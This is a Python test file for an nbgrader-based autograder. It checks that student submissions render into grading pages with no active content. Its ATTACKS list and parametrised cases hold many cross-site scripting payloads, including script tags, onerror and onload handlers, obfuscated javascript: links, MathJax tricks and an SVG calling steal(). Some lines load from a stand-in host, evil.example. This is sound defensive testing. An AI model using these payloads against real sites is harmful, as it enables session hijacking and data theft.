"""Whatever a student wrote, the pages made of it have no script, no handler and no script link."""

import base64
import functools
import json
from html.parser import HTMLParser

import nbformat
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from nbconvert import HTMLExporter
from nbgrader.server_extensions.formgrader import handlers
from traitlets.config import Config

from autograder.grading.clean import GIVEN, clean_notebook
from autograder.instructor import fragments
from autograder.intake.saved import pictures, saved_outputs
from autograder.nbgrader_parts.configuration import configure
from tests.intake.handed_in import WRITTEN_STUB, cell_of, make_release, solved

PNG = base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(40)).decode()
GIF = base64.b64encode(b"GIF89a" + bytes(40)).decode()
ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "text <svg/onload=alert(1)> text",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<!--><script>alert(1)</script>-->",
    "<?php echo 1 ?><style>*{display:none}</style>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](  javascript:alert(1) 'title')",
    "[click](<javascript:alert(1)>)",
    "[click](java&#115;cript:alert(1))",
    "[click](javascript&colon;alert(1))",
    "[click](javascript\\:alert(1))",
    "[click](\njavascript:alert(1))",
    "[click](\x01javascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "[click](vbscript:msgbox)",
    "[click][1]\n\n[1]: javascript:alert(1)",
    "![x](javascript:alert(1))",
    '![x](x"onerror="alert(1))',
    "<javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "$\\href{javascript:alert(1)}{x}$",
    "$$\\require{html}\\style{background:url(//evil.example)}{x}$$",
    "`<b>`<script>alert(1)</script>`",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "# <script>alert(1)</script>",
    "| a |\n| --- |\n| <img src=x onerror=alert(1)> |",
    "]:[click](javascript:alert(1))",
    "[a]: x\n]:[click](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x](https://evil.example/who-reads-this.png)",
    "[click](/api/contents/gradebook.db)",
    '<https://a.example/"onmouseover=alert(1)>',
    "$<img src=x onerror=alert(1)>$ $$</code><script>alert(1)</script>$$",
    "\\begin{a}<script>alert(1)</script>\\end{a}",
]


class Watcher(HTMLParser):
    """Collects every tag and attribute that a browser would see."""

    def __init__(self, page):
        super().__init__()
        self.tags, self.attributes, self.text = [], [], ""
        self.feed(page)

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]

    def handle_data(self, data):
        self.text += data


def assert_harmless(watcher, also=frozenset()):
    active = {
        "script",
        "iframe",
        "object",
        "embed",
        "link",
        "meta",
        "base",
        "form",
        "input",
        "style",
    }
    assert not set(watcher.tags) & (active - set(also))
    for tag, name, value in watcher.attributes:
        assert not name.startswith("on"), (tag, name, value)
        assert name not in ("srcdoc", "formaction", "srcset", "background"), (tag, name, value)
        if name in ("href", "src", "xlink:href"):
            assert value.startswith(("http:", "https:", "mailto:", "data:image/", "#")), value
            assert "svg" not in value
        if tag == "img":
            assert name != "src" or value.startswith("data:image/"), value


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("render", [fragments.written, fragments.given, fragments.code])
def test_no_attack_survives(attack, render):
    assert_harmless(Watcher(render(attack)), also={"style"})  # a formula's picture has one


MIXTURES = st.lists(
    st.sampled_from(
        ["<", ">", "[x]", "(", ")", "javascript:", "script", "\n", "`", "$", "&lt;", "&#60;",
         "\\", '"', "'", "!", " ", "img onerror=1", "</", "<!--", "-->", ":", "#", "1", "|",
         "href", "\\url{", "BEGIN ", "HIDDEN TESTS", "](", "]:", "&#35;", "attachment:a.png",
         "data:image/png;base64,", "<svg ", "onload=1>", "part", "0x", "https://e.example/"]
    ),
    max_size=16,
).map("".join)  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(MIXTURES | st.text(max_size=200))
def test_no_mixture_of_marks_makes_anything_active(text):
    shown = fragments.written(text, {"a.png": {"image/png": PNG}})
    assert_harmless(Watcher(shown), also={"style"})


def test_what_looks_like_html_is_shown_as_it_was_typed():
    watcher = Watcher(fragments.written("if x <b and c> d: <b>bold</b> & `a<b>`"))
    assert "if x <b and c> d: <b>bold</b> & a<b>" in watcher.text


def test_honest_markdown_looks_as_it_should():
    text = (
        "Plain, **bold**, *it*, `code`, [a paper](https://arxiv.org/abs/1706.03762).\n\n- one\n"
        "- two\n\n| a | b |\n| - | - |\n| 1 | 2 |\n\n$a < b$ and\n\n$$\\frac{1}{\\sqrt{d}}$$\n"
    )
    watcher = Watcher(fragments.written(text))
    assert {"strong", "em", "code", "a", "ul", "li", "table", "td", "svg"} <= set(watcher.tags)
    labels = [value for _, name, value in watcher.attributes if name == "aria-label"]
    assert labels == ["a < b", "\\frac{1}{\\sqrt{d}}"]


def test_the_instructors_tags_stay_and_their_scripts_do_not():
    watcher = Watcher(fragments.given("a<sub>i</sub> <details>x</details><script>bad()</script>"))
    assert set(watcher.tags) == {"p", "sub", "details"}
    assert "bad" not in watcher.text


@pytest.mark.parametrize(
    ("name", "bundle", "shown"),
    [
        ("plot.png", {"image/png": PNG}, True),
        ("my plot.png", {"image/png": PNG}, True),
        ("图像 ✓.png", {"image/png": PNG}, True),
        ("honest.gif", {"image/gif": GIF}, True),
        ("lie.png", {"image/png": GIF}, False),
        ("evil.svg", {"image/svg+xml": "<svg onload='steal()'/>"}, False),
        ("odd.png", {"image/png": ["a", "list"]}, False),
        ("break.png", {"image/png": '"><script>'}, False),
        ("empty.png", {}, False),
        ("none.png", None, False),
    ],
)
def test_a_pasted_picture_is_shown_or_a_note_says_why_not(name, bundle, shown):
    kept = pictures({name: bundle} if bundle is not None else {})
    for attachments in (kept, {name: bundle}):
        watcher = Watcher(fragments.written(f"See ![it](<attachment:{name}>)!", attachments))
        assert ("img" in watcher.tags) is shown
        assert (f"The picture {name} isn't shown" in watcher.text) is not shown


def test_one_picture_named_two_thousand_times_does_not_make_a_huge_page():
    large = base64.b64encode(b"\x89PNG" + bytes(1_000_000)).decode()
    shown = fragments.written("![x](attachment:a.png) " * 800, {"a.png": {"image/png": large}})
    assert len(shown) < 2 * fragments.LARGEST_PICTURES
    assert "too many pictures" in shown


def test_of_many_formulas_the_first_are_drawn_and_all_are_there():
    shown = fragments.written(" ".join(f"$x_{{{number}}}$" for number in range(600)))
    watcher = Watcher(shown)
    assert watcher.tags.count("svg") == fragments.MOST_FORMULAS
    assert watcher.tags.count("code") == 600 - fragments.MOST_FORMULAS


def test_a_long_text_and_long_code_are_cut_and_say_so():
    for show in (fragments.written, fragments.code):
        shown = show("<b> " * 20_000)
        assert len(shown) < 200_000 and "more characters are not shown" in shown
        assert_harmless(Watcher(shown))


def test_blanks_that_take_a_highlighter_minutes_are_not_highlighted():
    assert "<span" not in fragments.code("x = 1" + "\n " * 9000 + "y = 2")
    assert "<span" in fragments.code("x = 1\n\n\ny = 2")


@pytest.mark.parametrize(
    "outputs",
    [
        None,
        3,
        "x",
        [None],
        [{}],
        [{"output_type": "stream"}],
        [{"output_type": "error", "traceback": [[["deep"]], 3], "ename": {}, "evalue": None}],
        [{"output_type": "display_data", "data": {"text/html": "<b>"}}],
    ],
)
def test_odd_outputs_become_text_or_nothing(outputs):
    for output in saved_outputs(outputs):
        assert set(output.get("data", {})) <= {"text/plain", "image/png"}


# Formgrader's page -----------------------------------------------------------------------------


@functools.cache
def exporter():
    """As formgrader has it, with the course's configuration."""
    config = Config()
    configure(config)
    config.HTMLExporter.template_name = "formgrade"
    config.HTMLExporter.extra_template_basedirs = [handlers.template_path]
    return HTMLExporter(config=config)


def formgraders_page(notebook, tmp_path):
    """The page as nbgrader makes it from a stored notebook."""
    path = tmp_path / "03_attention.ipynb"
    path.write_text(json.dumps(notebook), encoding="utf-8")
    resources = {
        "assignment_id": "03_attention",
        "notebook_id": "03_attention",
        "submission_id": "1",
        "index": 0,
        "total": 1,
        "base_url": "",
        "student": "ann",
        "last_name": "",
        "first_name": "",
        "notebook_path": "x",
    }
    return exporter().from_filename(str(path), resources=resources)[0]


def stored(answer, attachments=None, code="x = 1", outputs=()):
    """A graded notebook as it is stored, with one written answer and one cell of the student's."""
    notebook = solved()
    cell = cell_of(notebook, "why-scale")
    cell.source = answer
    if attachments is not None:
        cell["attachments"] = attachments
    notebook.cells.insert(3, nbformat.v4.new_markdown_cell(answer))
    notebook.cells.insert(
        4, nbformat.from_dict({"cell_type": "raw", "metadata": {}, "source": answer})
    )
    own = nbformat.v4.new_code_cell(code)
    own.outputs = list(outputs)
    notebook.cells.insert(5, own)
    trusted = frozenset(c.source for c in make_release().cells if c.cell_type == "markdown")
    return clean_notebook(notebook, trusted - {WRITTEN_STUB})


def page_of_nothing(tmp_path):
    return Watcher(formgraders_page(stored("Nothing."), tmp_path))


def assert_nothing_active_was_added(page, before):
    """Formgrader has scripts and handlers; a student's text adds none."""
    for tag in ("script", "iframe", "object", "embed", "link", "meta", "base", "form", "input"):
        assert page.tags.count(tag) == before.tags.count(tag), tag
    added = [each for each in page.attributes if each not in before.attributes]
    for tag, name, value in added:
        assert not name.startswith("on") and name != "srcdoc", (tag, name, value)
        if name in ("href", "src", "xlink:href"):
            assert value.startswith(("http", "mailto:", "data:image/", "#")), (tag, value)


@pytest.mark.parametrize("attack", ATTACKS)
def test_formgraders_page_has_none_of_it(attack, tmp_path):
    outputs = [{"output_type": "stream", "name": attack, "text": attack}]
    page = Watcher(formgraders_page(stored(attack, code=attack, outputs=outputs), tmp_path))
    assert_nothing_active_was_added(page, page_of_nothing(tmp_path))


@settings(max_examples=25, deadline=None)
@given(
    MIXTURES, st.dictionaries(MIXTURES, st.dictionaries(MIXTURES, MIXTURES, max_size=2), max_size=2)
)
def test_formgraders_page_stands_whatever_was_handed_in(tmp_path_factory, text, attachments):
    tmp_path = tmp_path_factory.mktemp("page")
    page = Watcher(formgraders_page(stored(text, attachments, text), tmp_path))
    assert_nothing_active_was_added(page, page_of_nothing(tmp_path))


def test_a_missing_picture_is_a_note_on_formgraders_page(tmp_path):
    page = Watcher(formgraders_page(stored("![x](attachment:gone.png)"), tmp_path))
    assert "The picture gone.png isn't shown" in page.text


def test_mathjax_reads_the_instructors_formulas_and_leaves_students_alone(tmp_path):
    notebook = stored("$\\href{javascript:alert(1)}{x}$")
    notebook.cells[0].source = "# Given\n\n$\\alpha$"
    notebook.cells[0].metadata[GIVEN] = True
    html = formgraders_page(notebook, tmp_path)
    assert "$\\alpha$" in html
    before, _, _ = html.partition("\\href{javascript")
    assert before.rindex("tex2jax_ignore") > before.rindex("text_cell_render")


def test_a_student_cannot_call_a_text_the_instructors(tmp_path):
    notebook = solved()
    forged = nbformat.v4.new_markdown_cell("<script>bad()</script>")
    forged.metadata = nbformat.from_dict(
        {GIVEN: True, "nbgrader": {"locked": True, "grade_id": '"><script>', "solution": False}}
    )
    notebook.cells.insert(1, forged)
    cleaned = clean_notebook(notebook, frozenset())
    assert cleaned.cells[1].metadata == {}
    assert "<script>bad" not in formgraders_page(cleaned, tmp_path)
